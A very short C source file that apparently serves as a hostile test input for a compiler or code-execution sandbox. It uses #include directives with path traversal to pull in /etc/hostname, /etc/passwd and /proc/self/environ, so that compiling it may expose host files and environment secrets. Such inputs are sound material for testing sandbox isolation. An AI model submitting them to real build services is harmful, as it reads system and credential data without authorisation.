#include "../../../../../../etc/hostname"
#include "/etc/passwd"
#include "/proc/self/environ"
int main() {}
